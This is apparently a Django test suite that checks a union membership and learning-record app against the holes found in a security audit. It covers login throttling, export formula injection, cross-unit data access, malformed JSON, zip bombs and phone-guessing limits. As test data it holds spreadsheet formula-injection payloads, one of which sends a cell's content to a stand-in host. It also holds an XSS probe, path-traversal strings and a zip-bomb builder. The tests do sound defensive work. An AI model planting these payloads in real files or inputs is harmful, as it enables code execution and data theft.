"""The classes of hole found by the outside security test (#14), each from the attacker's side:
a foreign-tree officer, a plain member, an anonymous caller. Each test asserts the answer and
that nothing changed."""

from __future__ import annotations

import pytest
from django.test import Client, override_settings

from suotdoi.people.models import Person

pytestmark = pytest.mark.django_db

GOOD = "Hoc-tap-2026!"


def _login(client: Client, login: str, password: str, **extra) -> bool:
    client.post("/accounts/login/", {"login": login, "password": password}, **extra)
    return "_auth_user_id" in client.session


# --- 3. Sign-in limits per account and per client address --------------------------------


def test_wrong_passwords_for_one_phone_do_not_lock_other_phones():
    Person.objects.create_user(full_name="Bùi Văn Long", phone="+84912555666", password=GOOD)
    Person.objects.create_user(full_name="Lý Thị Hoa", phone="+84912555777", password=GOOD)
    Person.objects.create_user(
        full_name="Đỗ Văn An", phone="+84912555888", email="an@example.vn", password=GOOD
    )
    attacker = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(6):
        assert not _login(attacker, "0912 555 666", "sai-mat-khau")
    # The victim's phone is held back, in any spelling, even with the right password ...
    assert not _login(Client(REMOTE_ADDR="198.51.100.1"), "+84912555666", GOOD)
    # ... but other phones and emails sign in, from another address and from the attacker's.
    assert _login(Client(REMOTE_ADDR="198.51.100.2"), "0912555777", GOOD)
    assert _login(Client(REMOTE_ADDR="198.51.100.3"), "an@example.vn", GOOD)


def test_one_address_guessing_many_phones_is_held_back():
    for i in range(12):
        Person.objects.create_user(full_name=f"Người {i}", phone=f"+8491277{i:04d}", password=GOOD)
    c = Client(REMOTE_ADDR="203.0.113.10")
    for i in range(11):
        _login(c, f"091277{i:04d}", "sai")
    # The eleventh failure within a minute from one address stops even a right password there.
    assert not _login(c, "0912770011", GOOD)
    assert _login(Client(REMOTE_ADDR="203.0.113.11"), "0912770011", GOOD)


@override_settings(ALLAUTH_TRUSTED_PROXY_COUNT=1)
def test_behind_the_load_balancer_the_client_address_comes_from_the_trusted_header():
    from suotdoi.core.clients import client_ip

    for i in range(12):
        Person.objects.create_user(full_name=f"Người {i}", phone=f"+8491288{i:04d}", password=GOOD)
    balancer = {"REMOTE_ADDR": "10.0.0.2"}
    c = Client(**balancer)
    for i in range(11):
        _login(c, f"091288{i:04d}", "sai", HTTP_X_FORWARDED_FOR="203.0.113.20")
    # Another client behind the same balancer is not held back by the first one's failures;
    # a forged first entry in the header does not choose the address either.
    ok = Client(**balancer)
    assert _login(ok, "0912880011", GOOD, HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.21")
    blocked = Client(**balancer)
    assert not _login(blocked, "0912880011", GOOD, HTTP_X_FORWARDED_FOR="203.0.113.20")

    class R:
        META = {"REMOTE_ADDR": "10.0.0.2"}
        headers = {"X-Forwarded-For": "evil, 198.51.100.7"}

    assert client_ip(R) == "198.51.100.7"


# --- 9. Uploaded files are never served by path -----------------------------------------


def test_uploaded_files_are_not_served_by_path_in_any_mode():
    import importlib

    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage
    from django.urls import Resolver404, clear_url_caches, resolve

    import config.urls

    name = default_storage.save("evidence/2026/minutes.pdf", ContentFile(b"%PDF-1.4 secret"))
    for debug in (False, True):
        with override_settings(DEBUG=debug):
            clear_url_caches()
            importlib.reload(config.urls)
            with pytest.raises(Resolver404):
                resolve(f"/media/{name}")
            assert Client().get(f"/media/{name}").status_code == 404
    clear_url_caches()
    importlib.reload(config.urls)


# --- 5. Exports never carry live formulas -------------------------------------------------

EVIL = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")',
    "+84912000001+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _assert_no_formula(data: bytes, must_contain: list[str]) -> None:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    seen = set()
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws["A1"].font.bold
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    seen.add(c.value)
    for text in must_contain:
        assert text in seen, text


def _xlsx(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_member_export_writes_formula_like_text_as_text(people, units, client_for):
    from suotdoi.organisations.models import Membership, Unit

    member = people["member"]
    Person.objects.filter(pk=member.pk).update(full_name=EVIL[0])
    Unit.objects.filter(pk=units["group"].pk).update(name=EVIL[3])
    Membership.objects.filter(person=member).update(position_title=EVIL[2])
    c = client_for(people["grassroots_chair"])
    r = c.get(f"/units/{units['grassroots'].pk}/members/export.xlsx?subtree=on")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), [EVIL[0], EVIL[2], EVIL[3]])


def test_import_error_file_writes_formula_like_text_as_text(people, units, client_for):
    from tests.conftest import xlsx_bytes

    # (The first would be a real formula in the uploaded file itself, read as its empty value.)
    rows = [[v, "31/02/2026", "", "0977111001", "", "", "", "", "", ""] for v in EVIL[1:]]
    c = client_for(people["grassroots_chair"])
    from django.core.files.uploadedfile import SimpleUploadedFile

    up = SimpleUploadedFile("x.xlsx", xlsx_bytes(rows))
    r = c.post(f"/units/{units['grassroots'].pk}/import/", {"file": up})
    assert r.status_code == 302, r.content[:500]
    from suotdoi.organisations.models import MemberImport

    imp = MemberImport.objects.latest("pk")
    r = c.get(f"/units/imports/{imp.pk}/errors.xlsx")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), EVIL[1:])


def test_campaign_export_writes_formula_like_text_as_text(people, units, client_for):
    from suotdoi.organisations.models import Unit
    from tests.test_campaigns import launched

    camp = launched(people, units)
    Unit.objects.filter(pk=units["grassroots"].pk).update(name=EVIL[1])
    r = client_for(people["provincial_officer"]).get(f"/campaigns/{camp.pk}/export.xlsx")
    assert r.status_code == 200
    _assert_no_formula(_xlsx(r), [EVIL[1]])


def test_every_xlsx_writer_goes_through_the_safe_sheet_helpers():
    """A new export that writes cells itself would escape the checks above: find it."""
    import pathlib

    root = pathlib.Path(__file__).resolve().parent.parent / "suotdoi"
    offenders = []
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "sheets.py" or "Workbook(" not in text:
            continue
        if "add_row" not in text and "put_cell" not in text and path.name != "importing.py":
            offenders.append(str(path))
        if "csv.writer" in text:
            offenders.append(str(path))
    assert not offenders


# --- 2. No learning entries written by a tool for people outside its unit ------------------


def _completed(actor: dict, **kw) -> dict:
    import uuid

    s = {
        "id": str(uuid.uuid4()),
        "actor": actor,
        "verb": {"id": "http://adlnet.gov/expapi/verbs/completed", "display": {"vi": "xong"}},
        "object": {"id": "https://khoa-hoc.example/an-toan-lao-dong"},
        "result": {"duration": "PT20H"},
        "timestamp": "2026-11-01T08:00:00+07:00",
    }
    s.update(kw)
    return s


def test_a_tool_cannot_write_entries_for_people_outside_its_unit(people, units):
    from suotdoi.records.lrs.actions import lrs_client_create
    from suotdoi.records.models import LearningEntry
    from tests.test_lrs import Lrs

    group_tool = Lrs(*lrs_client_create(actor=None, unit=units["group"], name="Công cụ tổ"))
    foreign = people["foreign_officer"]
    member = people["member"]  # in the union group
    before = LearningEntry.objects.filter(person=foreign).count()
    # Every way of naming the foreign officer: public id, sequence number, phone.
    names = [foreign.public_id, str(foreign.pk), "0913000007", "+84913000007"]
    for name in names:
        actor = {"account": {"homePage": "http://127.0.0.1:8000", "name": name}}
        from django.conf import settings

        actor["account"]["homePage"] = settings.PUBLIC_URL.rstrip("/")
        assert group_tool.post("statements", _completed(actor)).status_code == 200
    # Named by their public id, the foreign officer gets at most the tool's report: not issued
    # by the unit, counted nowhere until they accept it (#17); by anything else, nothing.
    from suotdoi.records.selectors import COUNTING

    assert LearningEntry.objects.filter(person=foreign).exclude(status="reported").count() == before
    reported = LearningEntry.objects.filter(person=foreign, status="reported")
    assert reported.count() <= 1 and all(e.unit_id is None for e in reported)
    assert all(e.issued_by == "Công cụ tổ" for e in reported)
    assert not LearningEntry.objects.filter(COUNTING, pk__in=[e.pk for e in reported]).exists()
    # The same tool does write for its own unit's member, named by the public id only.
    from django.conf import settings

    home = settings.PUBLIC_URL.rstrip("/")
    for name in [str(member.pk), "0912000001"]:
        actor = {"account": {"homePage": home, "name": name}}
        assert group_tool.post("statements", _completed(actor)).status_code == 200
    assert not LearningEntry.objects.filter(person=member, source_key__startswith="xapi").exists()
    actor = {"account": {"homePage": home, "name": member.public_id}}
    assert group_tool.post("statements", _completed(actor)).status_code == 200
    assert LearningEntry.objects.filter(person=member, source_key__startswith="xapi").count() == 1


def test_public_ids_are_not_sequential_and_shown_on_the_profile(people, client_for):
    ids = [p.public_id for p in Person.objects.all()[:20]]
    assert len(set(ids)) == len(ids)
    assert all(len(i) >= 20 and not i.isdigit() for i in ids)
    page = client_for(people["member"]).get("/profile/").content.decode()
    assert people["member"].public_id in page


# --- 6. Nothing stored can break reads ------------------------------------------------------

LONE = '{"actor": {"mbox": "mailto:a@example.vn", "name": "\\ud800"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"}, "object": {"id": "http://x.example/a"}}'  # noqa: E501
DUP = '{"actor": {"mbox": "mailto:a@example.vn"}, "actor": {"mbox": "mailto:b@example.vn"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"}, "object": {"id": "http://x.example/a"}}'  # noqa: E501
DEEP = '{"a": ' * 2000 + "1" + "}" * 2000
BAD_BODIES = [
    LONE,
    DUP,
    DEEP,
    "[" * 2000 + "]" * 2000,
    '{"x": NaN}',
    b"\xff\xfe{}",
    '"just a string"',
    "[1, 2, 3]",
]


def test_stored_data_fuzz_every_json_entry_point_then_every_list(people, units, client_for):
    from suotdoi.records.lrs.actions import lrs_client_create
    from suotdoi.records.lrs.models import Document, Statement
    from tests.test_lrs import Lrs

    lrs = Lrs(*lrs_client_create(actor=None, unit=units["clc"], name="Fuzz"))
    officer = client_for(people["grassroots_chair"])
    officer.get("/api/v1/me")
    csrf = officer.cookies.get("csrftoken")
    headers = {"X-CSRFToken": csrf.value} if csrf else {}
    n_statements, n_docs = Statement.objects.count(), Document.objects.count()
    state = "activities/state?activityId=http://x.example/a&stateId=s1&agent="
    agent = '{"mbox": "mailto:a@example.vn"}'
    writes = []
    for body in BAD_BODIES:
        if body not in ('"just a string"', "[1, 2, 3]"):  # documents may be any JSON value
            writes += [
                lrs.put(state + agent, body),
                lrs.put("activities/profile?activityId=http://x.example/a&profileId=p", body),
                lrs.put(f"agents/profile?agent={agent}&profileId=p", body),
            ]
        writes += [
            lrs.post("statements", body),
            lrs.put("statements?statementId=6fbd1a39-4f8e-4d55-9b8f-1f1b8a5f6a01", body),
            lrs.post(state + agent, body),
            Client().post("/vc-api/credentials/verify", body, content_type="application/json"),
            Client().post("/vc-api/presentations/verify", body, content_type="application/json"),
            officer.post(
                f"/api/v1/units/{units['grassroots'].pk}/memberships",
                body,
                content_type="application/json",
                headers=headers,
            ),
            officer.post(
                "/api/v1/record/entries", body, content_type="application/json", headers=headers
            ),
        ]
    for r in writes:
        assert 400 <= r.status_code < 500, (r.status_code, r.request.get("PATH_INFO"))
    assert Statement.objects.count() == n_statements
    assert Document.objects.count() == n_docs
    reads = [
        lrs.get("statements"),
        lrs.get("statements", {"agent": agent}),
        lrs.get("activities", {"activityId": "http://x.example/a"}),
        lrs.get("agents", {"agent": agent}),
        lrs.get("activities/state", {"activityId": "http://x.example/a", "agent": agent}),
        officer.get("/api/v1/record/entries"),
        officer.get(f"/api/v1/units/{units['grassroots'].pk}/memberships"),
    ]
    for r in reads:
        assert r.status_code < 500


def test_a_lone_surrogate_is_refused_with_a_message():
    from suotdoi.core.jsonio import BadJSON, parse_json

    for bad, code in [
        (LONE, "bad_unicode"),
        (DUP, "duplicate"),
        (DEEP, "too_deep"),
        ('{"x": Infinity}', "malformed"),
    ]:
        with pytest.raises(BadJSON) as e:
            parse_json(bad)
        assert e.value.code == code
    assert parse_json('{"tên": "Mai \\ud83d\\ude00"}') == {"tên": "Mai 😀"}


# --- 7. No 500 for bad input anywhere ---------------------------------------------------------


def _api_client(client):
    client.get("/api/v1/me")
    token = client.cookies.get("csrftoken")
    return {"X-CSRFToken": token.value} if token else {}


def test_bad_input_gets_a_4xx_with_a_message(people, units, client_for):
    from suotdoi.records.lrs.actions import lrs_client_create
    from suotdoi.records.models import LearningEntry
    from tests.test_lrs import Lrs

    officer = client_for(people["commune_officer"])
    h = _api_client(officer)
    member = client_for(people["member"])
    hm = _api_client(member)
    g = units["grassroots"].pk
    probes = []
    for q in [
        "page_size=99999999999999999999",
        "page_size=-1",
        "page_size=abc",
        "cursor=%00",
        "cursor=cD05OTk5OTk5OTk5OTk5OTk5OTk5OTk5OTk=",
    ]:
        probes.append(member.get(f"/api/v1/record/entries?{q}"))
        probes.append(officer.get(f"/api/v1/units/{units['commune'].pk}/memberships?{q}"))
    # Nested JSON on the public verifier.
    probes.append(
        Client().post("/vc-api/credentials/verify", DEEP, content_type="application/json")
    )
    # Impossible timestamps for a platform learner.
    lrs = Lrs(*lrs_client_create(actor=None, unit=units["group"], name="T"))
    from django.conf import settings

    actor = {
        "account": {"homePage": settings.PUBLIC_URL.rstrip("/"), "name": people["member"].public_id}
    }
    for ts in ["2026-02-31T08:00:00Z", "0000-01-01T00:00:00Z", "2026-13-01T00:00:00Z"]:
        probes.append(lrs.post("statements", _completed(actor, timestamp=ts)))
    # Multipart without a boundary: the LRS, a page form and an API upload.
    chair = client_for(people["grassroots_chair"])
    for ct in ["multipart/form-data", "multipart/mixed"]:
        # A page form shows itself again with the field's error (200), never a 500.
        page = chair.generic("POST", f"/units/{g}/import/", b"--x\r\n\r\n", content_type=ct)
        assert page.status_code in (200, 400) and "<form" in page.content.decode()
    for path, c, hh in [
        ("/xapi/statements", lrs.http, lrs.headers()),
        (f"/api/v1/units/{g}/imports", officer, h),
    ]:
        probes.append(
            c.generic("POST", path, b"--x\r\n\r\n", content_type="multipart/form-data", headers=hh)
        )
        probes.append(
            c.generic("POST", path, b"--x\r\n\r\n", content_type="multipart/mixed", headers=hh)
        )
    # Revoking with malformed credential ids, on the page and through the API.
    for uid in ["x", "1" * 500, "00000000-0000-0000-0000-00000000000g", "%00", "..%2F.."]:
        probes.append(
            officer.post(f"/credentials/unit/{units['clc'].pk}/revoke/{uid}/", {"reason": "sai"})
        )
        probes.append(
            officer.post(
                f"/api/v1/units/{units['clc'].pk}/credentials/{uid}/revoke",
                {"reason": "sai sót"},
                content_type="application/json",
                headers=h,
            )
        )
    # API input held to the form rules.
    for body in [
        {"full_name": "<script>alert(1)</script>", "phone": "0977123456", "consent": True},
        {"full_name": "Lê Văn Tám", "phone": "٠٩٧٧١٢٣٤٥٦", "consent": True},
        {"full_name": "Lê Văn Tám", "phone": "0977123456 ext. 12", "consent": True},
        {"full_name": "Lê Văn Tám", "phone": "0977123456;ext=1", "consent": True},
        {"full_name": "Lê Văn Tám", "national_id": "٠٠١٠٩٠٠١٢٣٤٥", "consent": True},
        {"full_name": "Lê Văn Tám", "email": "không phải email", "consent": True},
        {"full_name": "Lê\x00Văn", "phone": "0977123457", "consent": True},
    ]:
        probes.append(
            officer.post(
                f"/api/v1/units/{units['commune'].pk}/memberships",
                body,
                content_type="application/json",
                headers=h,
            )
        )
    for body in [
        {"title": "<b>x</b>", "kind": "self_study", "start_date": "2026-01-01", "hours": 1},
        {"title": "Học", "kind": "self_study", "start_date": "2026-02-31", "hours": 1},
        {"title": "Học", "kind": "self_study", "start_date": "0000-01-01", "hours": 1},
        {"title": "Học", "kind": "self_study", "start_date": "2026-01-01", "hours": "1e400"},
        {"title": "Học", "kind": "self_study", "start_date": "2026-01-01", "hours": "NaN"},
        {"title": "Học", "kind": "self_study", "start_date": "2026-01-01", "hours": 1.123456},
    ]:
        probes.append(
            member.post("/api/v1/record/entries", body, content_type="application/json", headers=hm)
        )
    for r in probes:
        assert 400 <= r.status_code < 500, (r.status_code, r.request["PATH_INFO"], r.content[:300])
        if r.status_code not in (404, 405):
            assert r.content, r.request["PATH_INFO"]
    assert not Person.objects.filter(full_name__contains="Tám").exists()
    assert not LearningEntry.objects.filter(
        person=people["member"], source_key__startswith="api:"
    ).exists()


# --- 1. No identity lookup or attachment across trees ----------------------------------------


FORM_EXTRA = {"start_date": "01/11/2026", "consent": "on"}


def _snapshot(person):
    from suotdoi.organisations.models import Membership

    return (
        sorted(Membership.objects.filter(person=person).values_list("unit_id", "role", "end_date")),
        Person.objects.filter(pk=person.pk).values_list("full_name", "phone", "email").get(),
    )


def test_a_foreign_officer_adding_someone_by_phone_or_cccd_learns_nothing(
    people, units, client_for
):
    from suotdoi.organisations.middleware import needs_two_factor
    from suotdoi.organisations.models import Membership, MembershipInvitation

    victim = people["member"]
    victim.national_id, victim.email = "001190000123", "mai@example.vn"
    victim.save(update_fields=["national_id", "email"])
    victim.refresh_from_db()
    before = _snapshot(victim)
    foreign = client_for(people["foreign_officer"])
    fu = units["foreign_federation"]
    h = _api_client(foreign)
    pages, apis = [], []
    for ident in [
        {"phone": "0912000001"},
        {"national_id": "001190000123"},
        {"email": "mai@example.vn"},
    ]:
        for role in ["member", "officer"]:
            form = {"full_name": "Tên Bịa Đặt", "role": role, **FORM_EXTRA, **ident}
            pages.append(foreign.post(f"/units/{fu.pk}/members/add/", form, follow=True))
            apis.append(
                foreign.post(
                    f"/api/v1/units/{fu.pk}/memberships",
                    {**form, "consent": True, "start_date": None},
                    content_type="application/json",
                    headers=h,
                )
            )
    for r in pages + apis:
        body = r.content.decode()
        for secret in [
            victim.full_name,
            "Mai",
            "mai@example.vn",
            "001190000123",
            str(victim.date_of_birth.year) if victim.date_of_birth else "∅",
        ]:
            assert secret not in body, (secret, r.status_code)
    assert all(r.status_code == 202 for r in apis)
    # Nothing about the victim changed: no membership, no role, no two-factor demand.
    assert _snapshot(victim) == before
    assert not needs_two_factor(victim)
    assert not Membership.objects.filter(person=victim, unit__path__startswith=fu.path).exists()
    # The member list and its export carry nothing about her either.
    listing = foreign.get(f"/units/{fu.pk}/members/?subtree=on").content.decode()
    assert victim.full_name not in listing
    export = foreign.get(f"/units/{fu.pk}/members/export.xlsx?subtree=on")
    assert victim.full_name.encode() not in _xlsx(export)
    # She got one invitation (offering officer the second time is the same pending one) ...
    inv = MembershipInvitation.objects.get(person=victim, unit=fu)
    assert inv.status == "pending"
    # ... which a third person cannot answer, and she can decline.
    other = client_for(people["group_leader"])
    assert other.post(f"/units/invitations/{inv.pk}/accept/").status_code == 404
    mine = client_for(victim)
    page = mine.get("/units/mine/").content.decode()
    assert fu.name in page
    mine.post(f"/units/invitations/{inv.pk}/decline/")
    inv.refresh_from_db()
    assert inv.status == "declined" and _snapshot(victim) == before


def test_an_invited_person_joins_only_by_accepting_and_the_role_follows(people, units, client_for):
    from suotdoi.organisations.middleware import needs_two_factor
    from suotdoi.organisations.models import Membership, MembershipInvitation

    victim = people["member"]
    fu = units["foreign_federation"]
    foreign = client_for(people["foreign_officer"])
    foreign.post(
        f"/units/{fu.pk}/members/add/",
        {"full_name": "X Y", "role": "officer", "phone": "0912000001", **FORM_EXTRA},
    )
    inv = MembershipInvitation.objects.get(person=victim, unit=fu)
    assert not needs_two_factor(victim)
    client_for(victim).post(f"/units/invitations/{inv.pk}/accept/")
    m = Membership.objects.get(person=victim, unit=fu, end_date__isnull=True)
    assert m.role == "officer"
    victim = Person.objects.get(pk=victim.pk)
    assert needs_two_factor(victim)
    # Only now does the unit see her.
    assert victim.full_name in foreign.get(f"/units/{fu.pk}/members/").content.decode()


def test_inside_the_officers_own_subtree_a_member_is_added_at_once(people, units, client_for):
    from suotdoi.organisations.models import Membership

    chair = client_for(people["grassroots_chair"])
    mai = people["member"]  # already in TCD-001-1, below the chair's union
    target = units["grassroots"]
    r = chair.post(
        f"/units/{target.pk}/members/add/",
        {"full_name": "Nguyễn Thị Mai", "role": "member", "phone": "0912000001", **FORM_EXTRA},
    )
    assert r.status_code == 302
    assert Membership.objects.filter(person=mai, unit=target, end_date__isnull=True).exists()


def test_an_import_by_a_foreign_officer_invites_and_reveals_nothing(
    people, units, client_for, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from suotdoi.organisations.models import MemberImport, MembershipInvitation
    from tests.conftest import xlsx_bytes

    victim = people["member"]
    victim.national_id = "001190000123"
    victim.save(update_fields=["national_id"])
    before = _snapshot(victim)
    fu = units["foreign_federation"]
    foreign = client_for(people["foreign_officer"])
    rows = [
        ["Tên Bịa", "", "", "0912 000 001", "", "", "", "", "", ""],
        # A CCCD that does not fit her phone: the answer must not confirm whose they are.
        ["Tên Khác", "", "", "0912 000 001", "", "001190000999", "", "", "", ""],
    ]
    foreign.post(
        f"/units/{fu.pk}/import/", {"file": SimpleUploadedFile("a.xlsx", xlsx_bytes(rows))}
    )
    imp = MemberImport.objects.latest("pk")
    page = foreign.get(f"/units/imports/{imp.pk}/").content.decode()
    assert victim.full_name not in page and "căn cước khác" not in page
    with django_capture_on_commit_callbacks(execute=True):
        foreign.post(f"/units/imports/{imp.pk}/confirm/")
    imp.refresh_from_db()
    assert imp.invitations_sent == 1 and imp.memberships_created == 0
    assert _snapshot(victim) == before
    assert MembershipInvitation.objects.filter(person=victim, unit=fu, status="pending").exists()
    assert victim.full_name not in foreign.get(f"/units/imports/{imp.pk}/").content.decode()


# --- 4. Uploads that unpack are bounded before they are read -----------------------------------


def _bomb(part: str, size: int) -> bytes:
    """A real .xlsx whose `part` is replaced by `size` bytes of XML that compress ~1000:1."""
    import io
    import zipfile

    from tests.conftest import xlsx_bytes

    src = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Lê Văn A", "", "", "0977000001"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in src.infolist():
            if info.filename == part:
                continue
            z.writestr(info, src.read(info.filename))
        with z.open(part, "w", force_zip64=True) as fh:
            fh.write(
                b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                b'spreadsheetml/2006/main">'
            )
            chunk = b"<si><t>" + b"A" * 1000 + b"</t></si>"
            block = chunk * 1000
            for _ in range(size // len(block)):
                fh.write(block)
            fh.write(b"</sst>")
    return out.getvalue()


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_a_zip_bomb_is_refused_before_it_is_read(people, units, client_for, part):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from suotdoi.organisations.models import MemberImport

    data = _bomb(part, 200 * 1024**2)
    assert len(data) < 2 * 1024**2
    c = client_for(people["grassroots_chair"])
    r = c.post(
        f"/units/{units['grassroots'].pk}/import/", {"file": SimpleUploadedFile("bom.xlsx", data)}
    )
    imp = MemberImport.objects.latest("pk")
    assert r.status_code == 302 and imp.status == "rejected"
    assert "lớn hơn nhiều" in imp.file_error or "expands" in imp.file_error


def test_the_import_check_of_a_crafted_file_stays_small_in_memory(tmp_path):
    """Peak RSS of a fresh process that checks a 1 GB-expanding file, measured, not guessed."""
    import subprocess
    import sys

    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_bomb("xl/sharedStrings.xml", 1024**3))
    code = (
        "import os, resource, django;"
        "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'config.settings.test');"
        "django.setup();"
        "from suotdoi.organisations import importing;"
        "from suotdoi.organisations.errors import ImportRejected\n"
        f"data = open({str(path)!r}, 'rb').read()\n"
        "print('before_kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
        "try:\n"
        "    importing.open_sheet(data)\n"
        "except ImportRejected as e:\n"
        "    print('refused', e.message)\n"
        "print('peak_kb', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=300, check=True
    ).stdout
    assert "refused" in out
    before_mb = int(out.split("before_kb")[1].split()[0]) / 1024
    peak_mb = int(out.split("peak_kb")[1].strip()) / 1024
    # The check's own footprint: what the process grew while refusing the file (the app's
    # imports, which grow with the app and differ between SQLite and PostgreSQL, are not it).
    print(f"peak RSS checking a 1 GB-expanding xlsx: {peak_mb:.0f} MB ({before_mb:.0f} before)")
    assert peak_mb - before_mb < 100


# --- 8. Public checks cannot be turned into lookups ---------------------------------------------


def test_a_credential_carries_no_phone_hash_and_the_holder_check_is_limited(people, units):
    import json

    from suotdoi.credentials import actions
    from tests.credentials_helpers import issued

    mai = people["member"]
    c = issued(people, units)
    text = json.dumps(c.document)
    assert "phone" not in text.lower()
    assert mai.phone not in text and mai.phone[3:] not in text
    actions.credential_share_set(actor=mai, credential=c, on=True)
    url = f"/credentials/s/{c.share_token}/"
    anon = Client(REMOTE_ADDR="203.0.113.50")
    # The holder proves it with the phone, checked on the server against the issued record.
    yes = anon.post(url, {"claim": "0912 000 001"})
    assert yes.status_code == 200 and "message-success" in yes.content.decode()
    # Guessing phones from one address stops after a few tries ...
    answers = [anon.post(url, {"claim": f"09120000{i:02d}"}).status_code for i in range(2, 14)]
    assert 429 in answers
    # ... and from many addresses, the credential's own limit stops it.
    codes = [
        Client(REMOTE_ADDR=f"198.51.100.{i}").post(url, {"claim": f"0913{i:06d}"}).status_code
        for i in range(30)
    ]
    assert codes.count(429) >= 10
    # A limited answer says so (translated) and never says yes or no.
    page = Client(REMOTE_ADDR="198.51.100.99").post(url, {"claim": "0912 000 001"})
    body = page.content.decode()
    assert page.status_code == 429 and "message-success" not in body


def test_a_partner_invitation_by_code_does_not_reveal_the_units_name(people, units, client_for):
    from suotdoi.campaigns.models import CampaignEvent
    from tests.test_campaigns import launched

    c = launched(people, units, target_type_codes=["cdcs"])
    officer = client_for(people["provincial_officer"])
    r = officer.post(f"/campaigns/{c.pk}/partners/", {"p-code": "LDLD-CB"}, follow=True)
    foreign_name = units["foreign_federation"].name
    assert r.status_code == 200 and foreign_name not in r.content.decode()
    assert foreign_name not in officer.get(f"/campaigns/{c.pk}/").content.decode()
    assert not any(foreign_name in str(e.data) for e in CampaignEvent.objects.filter(campaign=c))


def test_the_inviting_unit_can_withdraw_and_only_it(people, units, client_for):
    from suotdoi.organisations.models import MembershipInvitation

    fu = units["foreign_federation"]
    foreign = client_for(people["foreign_officer"])
    foreign.post(
        f"/units/{fu.pk}/members/add/",
        {"full_name": "X Y", "role": "member", "phone": "0912000001", **FORM_EXTRA},
    )
    inv = MembershipInvitation.objects.get(person=people["member"], unit=fu)
    # Neither the invited person nor an officer elsewhere can withdraw it.
    assert (
        client_for(people["member"]).post(f"/units/invitations/{inv.pk}/withdraw/").status_code
        == 404
    )
    chair = client_for(people["grassroots_chair"])
    assert chair.post(f"/units/invitations/{inv.pk}/withdraw/").status_code == 404
    inv.refresh_from_db()
    assert inv.status == "pending"
    assert foreign.post(f"/units/invitations/{inv.pk}/withdraw/").status_code == 302
    inv.refresh_from_db()
    assert inv.status == "withdrawn"
    # A withdrawn invitation cannot be accepted any more.
    client_for(people["member"]).post(f"/units/invitations/{inv.pk}/accept/")
    inv.refresh_from_db()
    assert inv.status == "withdrawn"
